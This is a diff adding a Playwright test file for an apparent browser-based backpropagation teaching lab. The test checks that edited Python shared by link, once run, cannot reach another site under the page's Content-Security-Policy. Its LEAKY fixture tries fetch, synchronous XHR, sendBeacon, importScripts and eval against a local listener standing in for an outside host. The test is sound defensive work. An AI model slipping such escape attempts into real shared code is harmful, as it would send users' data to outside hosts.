@@ -1,0 +1,92 @@
+"""Code that runs in the lab stays in the lab: edited Python, once Run, cannot reach another site.
+
+The Python worker starts from a blob: URL, so it inherits the page's Content-Security-Policy
+(connect-src and script-src 'self', no eval), even on a host that sends no headers (GitHub Pages; here
+the lab served without COOP/COEP). A link's code is Run (the consent it asks for), and tries every way
+out of the worker: fetch, a synchronous XHR, sendBeacon, importScripts and eval, each towards a server
+of another site (localhost) that counts what arrives. Nothing may arrive, and the code still runs.
+"""
+import http.server
+import re
+import threading
+
+import pytest
+from playwright.sync_api import expect
+
+from conftest import BOOT_TIMEOUT
+
+LEAKY = '''def neuron(X, w1, w2, b, f="sign"):
+    import js
+    url = "{url}"
+    def xhr():
+        r = js.XMLHttpRequest.new()
+        r.open("GET", url + "?via=xhr", False)
+        r.send()
+    tries = [lambda: js.fetch(url + "?via=fetch"), xhr,
+             lambda: js.navigator.sendBeacon(url + "?via=beacon", "data"),
+             lambda: js.importScripts(url + "?via=importScripts"),
+             lambda: js.eval("fetch('" + url + "?via=eval')")]
+    for attempt in tries:
+        try:
+            attempt()
+        except Exception:
+            pass
+    return np.zeros(len(X)) - 1.0
+'''
+
+
+@pytest.fixture(scope="module")
+def listener():
+    """Another site that records every request it receives."""
+    seen = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self):
+            seen.append(self.path)
+            self.send_response(204)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    server.seen = seen
+    server.url = f"http://localhost:{server.server_address[1]}/leak"
+    yield server
+    server.shutdown()
+
+
+def test_run_code_cannot_reach_another_site(browser, plain_site, listener):
+    context = browser.new_context(viewport={"width": 1280, "height": 900}, service_workers="block")
+    page = context.new_page()
+    page.goto(plain_site.url + "#/")
+    code = page.evaluate("""async (source) => (await import("./app/ui/code-panel.js")).encodeShare(
+      [{ module: "backprop_lab.lessons.neuron", name: "neuron", source }])""", LEAKY.format(url=listener.url))
+    page.goto(f"{plain_site.url}#/neuron?code={code}")
+    prompt = page.get_by_role("region", name="This link contains edited Python. Run it?")
+    prompt.get_by_role("button", name="Run", exact=True).click(timeout=BOOT_TIMEOUT)
+    expect(page.get_by_text("Running your code: neuron", exact=True)).to_be_visible(timeout=BOOT_TIMEOUT)
+    expect(page.get_by_text(re.compile(r"^Colour: orange"))).to_contain_text("orange = -1.00")
+    page.get_by_label("Bias b").focus()
+    page.keyboard.press("ArrowRight")                    # the edited neuron runs again
+    expect(page.get_by_text(re.compile(r"^Colour: orange"))).to_contain_text("orange = -1.00")
+    page.wait_for_timeout(1000)                          # the window for a late request to arrive
+    assert listener.seen == [], f"requests left for another site: {listener.seen}"
+    context.close()
+
+
+def test_the_listener_would_see_a_request_from_outside_the_policy(browser, listener, lecturer):
+    """The control: the same fetch from a page with no such policy (a page of the lecturer's site)
+    does arrive, so the 0 above means blocked, not unreachable."""
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(lecturer.url)
+    before = len(listener.seen)
+    page.evaluate("(url) => fetch(url + '?via=control').then((r) => r.status)", listener.url)
+    assert len(listener.seen) == before + 1 and listener.seen[-1].endswith("via=control")
+    listener.seen.clear()
+    context.close()
